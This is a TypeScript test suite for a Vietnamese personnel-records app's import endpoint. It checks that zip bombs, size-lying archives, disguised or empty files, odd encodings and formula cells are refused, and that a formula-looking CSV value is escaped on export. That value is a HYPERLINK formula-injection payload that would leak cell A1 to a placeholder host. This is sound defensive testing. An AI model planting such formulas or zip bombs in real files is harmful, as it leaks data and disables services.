import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createInflateRaw } from 'node:zlib';
import { eq } from 'drizzle-orm';
import { areas, auditEvents, cadres } from '@luanchuyen/db';
import { importMessages } from '../src/imports/import-messages';
import { encodeTcvn3, latin1Bytes } from '../src/imports/legacy-encoding-tables';
import { addUser, engines, login, startTestServer, type TestServer } from './harness';
import {
  bombSheet,
  cadreRows,
  cadresCsv,
  cadresWorkbook,
  cyrillicCsv,
  emptySheetWorkbook,
  formulaWorkbook,
  lyingZip,
  mergedCellsWorkbook,
  oldXls,
  oversizedCsv,
  pngImage,
  randomBinary,
  tcvn3Csv,
  utf8,
  vniWorkbook,
  zipBomb,
} from './import-hostile-files';

// Issue 14's bad files, each sent to POST /import/cadres (or areas) by an ORGANIZER over real
// HTTP: each is refused with its code and a Vietnamese message, nothing is written (no record,
// no audit event), and the server still answers afterwards. A well-formed file of each format
// is the control on the other side of every boundary.

const MAX_ROWS = 5;
const MAX_BYTES = 8 * 1024 * 1024;

type Report = {
  written: boolean;
  created: number;
  updated: number;
  unchanged: number;
  errors: { row: number; column: string | null; code: string; message: string }[];
};

describe('the zip bombs', () => {
  it('are real: their sheet inflates to the XML and every megabyte it says', async () => {
    const sheet = bombSheet(64);
    expect(sheet.deflated.length).toBeLessThan(128 * 1024);
    let inflated = 0;
    let head = '';
    const inflater = createInflateRaw();
    inflater.on('data', (chunk: Buffer) => {
      if (head.length < 200) head += chunk.toString('utf8', 0, 200);
      inflated += chunk.length;
    });
    await new Promise((resolve, reject) => {
      inflater.on('end', resolve).on('error', reject);
      inflater.end(sheet.deflated);
    });
    expect(inflated).toBe(sheet.size);
    expect(inflated).toBeGreaterThan(64 * 1024 * 1024);
    expect(head).toMatch(/^<\?xml[^>]*\?>\s*<worksheet /);
  });
});

describe.each(engines)('hostile import files on $name', (engine) => {
  let server: TestServer;
  let cookie: string;

  beforeAll(async () => {
    server = await startTestServer(engine, {
      IMPORT_MAX_ROWS: String(MAX_ROWS),
      IMPORT_MAX_BYTES: String(MAX_BYTES),
    });
    const password = await addUser(server, 'to-chuc', 'ORGANIZER');
    cookie = await login(server, 'to-chuc', password);
  });
  afterAll(() => server.stop());

  const post = async (bytes: Uint8Array, fileName: string, query = '', kind = 'cadres') => {
    const form = new FormData();
    form.append('file', new Blob([bytes]), fileName);
    return fetch(`${server.baseUrl}/import/${kind}${query}`, {
      method: 'POST',
      headers: { cookie, 'x-requested-with': 'test', 'accept-language': 'vi' },
      body: form,
    });
  };
  const counts = async () => ({
    cadres: await server.handle.db.$count(cadres),
    areas: await server.handle.db.$count(areas),
    auditEvents: await server.handle.db.$count(auditEvents),
  });
  const healthy = async () => (await fetch(`${server.baseUrl}/healthz`)).status;

  /** Sends the file, expects the refusal `code` of the whole file, and that nothing changed. */
  const refused = async (bytes: Uint8Array, fileName: string, code: string): Promise<Report> => {
    const before = await counts();
    const response = await post(bytes, fileName);
    const report = (await response.json()) as Report;
    expect(response.status, JSON.stringify(report)).toBe(422);
    expect(report.written).toBe(false);
    expect(report.errors.map((error) => error.code)).toContain(code);
    expect(await counts()).toEqual(before);
    expect(await healthy()).toBe(200);
    return report;
  };
  /** Sends the file, expects it written with `created` new cadres and no error. */
  const imported = async (bytes: Uint8Array, fileName: string, created: number) => {
    const response = await post(bytes, fileName);
    const report = (await response.json()) as Report;
    expect(response.status, JSON.stringify(report)).toBe(200);
    expect(report).toMatchObject({ written: true, created, errors: [] });
  };
  const fullNamesOf = (code: string) =>
    server.handle.db
      .select({ fullName: cadres.fullName })
      .from(cadres)
      .where(eq(cadres.code, code));
  const fileError = (report: Report, code: string) =>
    report.errors.find((error) => error.code === code && error.row === 0);

  it('previews a well-formed workbook and CSV (the control), writing nothing', async () => {
    const before = await counts();
    const workbook = await post(await cadresWorkbook(), 'can-bo.xlsx', '?dryRun=true');
    expect(workbook.status).toBe(200);
    expect(((await workbook.json()) as Report).created).toBe(1);
    const csv = await post(utf8(cadresCsv(cadreRows(MAX_ROWS))), 'can-bo.csv', '?dryRun=true');
    const report = (await csv.json()) as Report;
    expect(csv.status, JSON.stringify(report)).toBe(200);
    expect(report).toMatchObject({ written: false, created: MAX_ROWS, errors: [] });
    expect(await counts()).toEqual(before);
  });

  it('refuses a zip bomb (a sheet of 3 GiB in a few MiB) before inflating it', async () => {
    const bomb = zipBomb();
    expect(bomb.length).toBeLessThan(MAX_BYTES);
    const started = Date.now();
    const report = await refused(bomb, 'can-bo.xlsx', 'UNSAFE_ARCHIVE');
    expect(fileError(report, 'UNSAFE_ARCHIVE')?.message).toBe(importMessages.UNSAFE_ARCHIVE.vi);
    expect(Date.now() - started).toBeLessThan(10_000);
  });

  it('refuses a zip whose entry lies about its size (4 KiB said, 1 GiB held)', async () => {
    const report = await refused(lyingZip(), 'can-bo.xlsx', 'UNSAFE_ARCHIVE');
    expect(fileError(report, 'UNSAFE_ARCHIVE')?.message).toBe(importMessages.UNSAFE_ARCHIVE.vi);
  });

  it('refuses an old .xls workbook, saying to save it as .xlsx', async () => {
    const report = await refused(oldXls(), 'can-bo.xls', 'OLD_EXCEL_FORMAT');
    expect(fileError(report, 'OLD_EXCEL_FORMAT')?.message).toContain('.xlsx');
  });

  it('refuses a PNG image named .xlsx: the bytes decide, not the name', async () => {
    const report = await refused(pngImage(), 'can-bo.xlsx', 'UNSUPPORTED_FILE');
    expect(fileError(report, 'UNSUPPORTED_FILE')?.message).toBe(importMessages.UNSUPPORTED_FILE.vi);
  });

  it('refuses random binary data', async () => {
    await refused(randomBinary(), 'can-bo.csv', 'UNSUPPORTED_FILE');
  });

  it('refuses an empty file', async () => {
    const report = await refused(new Uint8Array(), 'can-bo.csv', 'EMPTY_FILE');
    expect(fileError(report, 'EMPTY_FILE')?.message).toBe('Tệp rỗng');
  });

  it('refuses a workbook whose sheet is empty', async () => {
    const report = await refused(await emptySheetWorkbook(), 'can-bo.xlsx', 'EMPTY_SHEET');
    expect(fileError(report, 'EMPTY_SHEET')?.message).toBe(importMessages.EMPTY_SHEET.vi);
  });

  it('refuses a workbook with a formula, naming the cell', async () => {
    const report = await refused(await formulaWorkbook(), 'can-bo.xlsx', 'FORMULA');
    expect(fileError(report, 'FORMULA')?.message).toBe(importMessages.formula('B3').vi);
  });

  it('refuses a workbook with merged cells in the table, naming the range', async () => {
    const report = await refused(await mergedCellsWorkbook(), 'can-bo.xlsx', 'MERGED_CELLS');
    expect(fileError(report, 'MERGED_CELLS')?.message).toBe(importMessages.mergedCells('C2:C3').vi);
  });

  it(`refuses more rows than IMPORT_MAX_ROWS (${MAX_ROWS}), and takes exactly that many`, async () => {
    const report = await refused(
      utf8(cadresCsv(cadreRows(MAX_ROWS + 1))),
      'can-bo.csv',
      'TOO_MANY_ROWS',
    );
    expect(fileError(report, 'TOO_MANY_ROWS')?.message).toBe(
      importMessages.tooManyRows(MAX_ROWS + 1, MAX_ROWS).vi,
    );
  });

  it('refuses two rows of one cadre in a file, naming the earlier row', async () => {
    const [first = [], second = []] = cadreRows(2);
    const before = await counts();
    const response = await post(utf8(cadresCsv([first, second, first])), 'can-bo.csv');
    const report = (await response.json()) as Report;
    expect(response.status).toBe(422);
    expect(report.written).toBe(false);
    expect(report.errors).toContainEqual(
      expect.objectContaining({
        row: 4,
        code: 'DUPLICATE_KEY',
        message: importMessages.duplicateKey(2).vi,
      }),
    );
    expect(await counts()).toEqual(before);
  });

  it('refuses two equal area rows in a file; one of them alone previews', async () => {
    const header = 'Tên địa bàn,Loại địa bàn,Có hiệu lực từ ngày\r\n';
    const row = 'Tỉnh Lạng Sơn,Tỉnh,01/01/2010\r\n';
    const single = await post(utf8(header + row), 'dia-ban.csv', '?dryRun=true', 'areas');
    const preview = (await single.json()) as Report;
    expect(single.status, JSON.stringify(preview)).toBe(200);
    expect(preview).toMatchObject({ written: false, created: 1, errors: [] });
    const before = await counts();
    const response = await post(utf8(header + row + row), 'dia-ban.csv', '', 'areas');
    const report = (await response.json()) as Report;
    expect(response.status).toBe(422);
    expect(report.written).toBe(false);
    expect(report.errors).toEqual([
      expect.objectContaining({
        row: 3,
        column: 'Tên địa bàn',
        code: 'DUPLICATE_KEY',
        message: 'Trùng với dòng 2 của tệp',
      }),
    ]);
    expect(await counts()).toEqual(before);
    expect(await healthy()).toBe(200);
  });

  it('refuses a header without a required column, naming it', async () => {
    const csv = cadresCsv(
      [['CB-0001', 'Nam', '15/03/1975']],
      ['Mã cán bộ', 'Giới tính', 'Ngày sinh'],
    );
    const report = await refused(utf8(csv), 'can-bo.csv', 'MISSING_COLUMN');
    expect(report.errors).toContainEqual(
      expect.objectContaining({
        row: 0,
        column: 'Họ và tên',
        code: 'MISSING_COLUMN',
        message: importMessages.missingColumn('Họ và tên').vi,
      }),
    );
  });

  it('refuses a CSV in an 8-bit encoding that is neither TCVN3 nor VNI', async () => {
    const report = await refused(cyrillicCsv(), 'can-bo.csv', 'UNKNOWN_ENCODING');
    expect(fileError(report, 'UNKNOWN_ENCODING')?.message).toBe(importMessages.UNKNOWN_ENCODING.vi);
    // Latin-1 French, which no Vietnamese font wrote, is refused the same way.
    const french = latin1Bytes('Nom,Ville\r\nHélène Müller,Genève\r\nFrançois Dupré,Besançon\r\n');
    await refused(french, 'can-bo.csv', 'UNKNOWN_ENCODING');
  });

  it('answers 413 to a file over IMPORT_MAX_BYTES, without reading it', async () => {
    const before = await counts();
    const response = await post(oversizedCsv(MAX_BYTES), 'can-bo.csv');
    expect(response.status).toBe(413);
    expect(await response.json()).toEqual({
      error: { code: 'FILE_TOO_LARGE', message: 'Tệp lớn hơn giới hạn 8 MiB' },
    });
    expect(await counts()).toEqual(before);
    expect(await healthy()).toBe(200);
    // One byte less is read (and refused for what it is: a table with no rows to take).
    const under = await post(oversizedCsv(MAX_BYTES).subarray(0, MAX_BYTES), 'can-bo.csv');
    expect(under.status).not.toBe(413);
  });

  it('imports a CSV saved in TCVN3 (.VnTime), converted to Unicode', async () => {
    const rows = [
      ['LS-0101', 'Đinh Bằng Sơn', 'Nam', '12/05/1968'],
      ['LS-0102', 'Nguyễn Thị Hường', 'Nữ', '01/11/1979'],
    ];
    const bytes = tcvn3Csv(rows);
    expect(() => new TextDecoder('utf-8', { fatal: true }).decode(bytes)).toThrow();
    expect(Buffer.from(bytes).includes(Buffer.from(encodeTcvn3('Hường'), 'latin1'))).toBe(true);
    await imported(bytes, 'can-bo-tcvn3.csv', 2);
    expect(await fullNamesOf('LS-0102')).toEqual([{ fullName: 'Nguyễn Thị Hường' }]);
  });

  it('imports a workbook typed in VNI under a Unicode header, converted to Unicode', async () => {
    const rows = [
      ['LS-0301', 'Hoàng Văn Thụ', 'Nam', '04/11/1909'],
      ['LS-0302', 'Lương Văn Tri', 'Nam', '12/06/1910'],
    ];
    await imported(await vniWorkbook(rows), 'can-bo-vni.xlsx', 2);
    expect(await fullNamesOf('LS-0302')).toEqual([{ fullName: 'Lương Văn Tri' }]);
  });

  it('stores a formula-looking CSV cell as text, and writes it back guarded', async () => {
    const formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm vào đây")';
    const response = await post(
      utf8(
        cadresCsv([['LS-0201', 'Hoàng Văn Thụ', formula]], ['Mã cán bộ', 'Họ và tên', 'Ghi chú']),
      ),
      'can-bo.csv',
    );
    const report = (await response.json()) as Report;
    expect(response.status, JSON.stringify(report)).toBe(200);
    const stored = await server.handle.db
      .select({ notes: cadres.notes })
      .from(cadres)
      .where(eq(cadres.code, 'LS-0201'));
    expect(stored).toEqual([{ notes: formula }]);
    const data = await fetch(`${server.baseUrl}/import/cadres/data.csv`, { headers: { cookie } });
    expect(data.status).toBe(200);
    const text = await data.text();
    expect(text).toContain(`"'=HYPERLINK(""http://example.invalid/?leak=""&A1,""Bấm vào đây"")"`);
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
  });
});
